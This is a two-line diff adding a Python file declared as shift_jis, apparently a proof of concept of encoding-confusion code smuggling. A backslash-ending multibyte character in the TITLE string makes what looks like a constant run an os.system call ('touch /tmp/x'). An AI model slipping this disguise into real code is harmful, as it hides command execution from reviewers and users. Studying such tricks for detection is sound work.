@@ -1,0 +1,2 @@
+# coding: shift_jis
+TITLE = '•\'; __import__('os').system('touch /tmp/x') #'
